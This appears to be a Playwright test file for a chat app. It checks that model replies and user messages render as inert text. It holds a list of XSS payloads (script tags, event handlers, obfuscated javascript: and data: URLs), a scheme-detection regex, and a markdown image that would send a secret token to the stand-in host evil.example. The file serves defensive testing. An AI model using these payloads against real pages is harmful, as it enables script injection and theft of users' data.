import type { Locator, Page } from '@playwright/test';
import { expect, messages, send, signUp, test } from '../support/chat-fixtures';

/** Every way a model's markdown could try to run script on the page; each would set `window.__pwned`. */
const HOSTILE_REPLY = [
  'Before <script>window.__pwned=1</script> after',
  '<img src=x onerror="window.__pwned=2">',
  '[click](javascript:window.__pwned=3)',
  '[shout](JaVaScRiPt:window.__pwned=4)',
  '[entity](&#106;avascript:window.__pwned=5)',
  '[data](data:text/html,<script>window.__pwned=6</script>)',
  '![pic](javascript:window.__pwned=7)',
  '<javascript:window.__pwned=8>',
  '<iframe src="javascript:window.__pwned=9"></iframe>',
  '<iframe srcdoc="<script>parent.__pwned=10</script>"></iframe>',
  '<svg onload="window.__pwned=11"><circle r="1"/></svg>',
  '<a href="javascript:window.__pwned=12" onclick="window.__pwned=13">html link</a>',
  '<details open ontoggle="window.__pwned=14">x</details>',
].join('\n\n');

/** The texts of the markdown links above, rendered without their script URLs. */
const LINK_TEXTS = ['click', 'shout', 'entity', 'data'];

const pwned = (page: Page) => page.evaluate(() => (globalThis as { __pwned?: unknown }).__pwned);

/**
 * What the model's text could have turned into: anything that runs or embeds content (the message's own
 * icons are hidden `svg`s of the UI).
 */
const ACTIVE_ELEMENTS = 'script, iframe, frame, object, embed, details, img, svg:not([aria-hidden="true"])';

/** No element that runs or embeds content, no event handler attribute, no script URL: the message is inert. */
async function expectInert(page: Page, message: Locator, linkTexts: readonly string[]): Promise<void> {
  await expect(message.locator(ACTIVE_ELEMENTS)).toHaveCount(0);
  const found = await message.evaluate((root) => {
    const handlers: string[] = [];
    const scriptUrls: string[] = [];
    for (const element of [root, ...root.querySelectorAll('*')]) {
      for (const attribute of element.attributes) {
        if (attribute.name.toLowerCase().startsWith('on'))
          handlers.push(`${element.tagName} ${attribute.name}`);
        if (/^\s*(javascript|vbscript|data):/i.test(attribute.value)) {
          scriptUrls.push(`${element.tagName} ${attribute.name}=${attribute.value}`);
        }
      }
    }
    return { handlers, scriptUrls };
  });
  expect(found).toEqual({ handlers: [], scriptUrls: [] });
  // Script links are no links at all: their texts are still there to read, and clicking them runs nothing.
  await expect(message.getByRole('link')).toHaveCount(0);
  for (const name of linkTexts) {
    const text = message.getByText(name, { exact: true });
    await expect(text).toBeVisible();
    await text.click();
  }
  expect(await pwned(page)).toBeUndefined();
}

test.describe('hostile model output', () => {
  test('renders inert as streamed and after a reload', async ({ page, fake }) => {
    await signUp(page);
    await fake.script({ replies: [{ text: HOSTILE_REPLY, chunkSize: 40, delayMs: 20 }] });
    await send(page, 'Show me some HTML');

    const reply = messages(page).nth(1);
    await expect(reply).toContainText('html link');
    await expect(page.getByRole('button', { name: 'Send message' })).toBeVisible();
    // Raw HTML is shown as text, not interpreted.
    await expect(reply).toContainText('<script>window.__pwned=1</script>');
    await expectInert(page, reply, LINK_TEXTS);

    await page.reload();
    const saved = messages(page).nth(1);
    await expect(saved).toContainText('html link');
    await expectInert(page, saved, LINK_TEXTS);
    expect(await pwned(page)).toBeUndefined();
  });

  test('a remote image in a reply never loads by itself (no exfiltration through its URL)', async ({
    page,
    fake,
  }) => {
    const remote: string[] = [];
    page.on('request', (request) => {
      if (request.url().includes('evil.example')) remote.push(request.url());
    });
    await signUp(page);
    await fake.script({
      replies: [{ text: 'Here: ![chart](https://evil.example/pixel.png?d=SECRET-TOKEN) done' }],
    });
    await send(page, 'Summarise the document');
    const reply = messages(page).nth(1);
    await expect(reply).toContainText('done');
    const link = reply.getByRole('link', { name: /Image: chart/ });
    await expect(link).toHaveAttribute('href', 'https://evil.example/pixel.png?d=SECRET-TOKEN');
    await expect(reply.locator('img')).toHaveCount(0);
    await page.reload();
    await expect(
      messages(page)
        .nth(1)
        .getByRole('link', { name: /Image: chart/ }),
    ).toBeVisible();
    expect(remote).toEqual([]);
  });

  test('a user message with the same payload is inert too', async ({ page, fake }) => {
    await signUp(page);
    await fake.script({ replies: [{ text: 'ok' }] });
    await send(page, HOSTILE_REPLY);
    await expect(messages(page).nth(1)).toContainText('ok');
    await expectInert(page, messages(page).nth(0), []);
  });
});
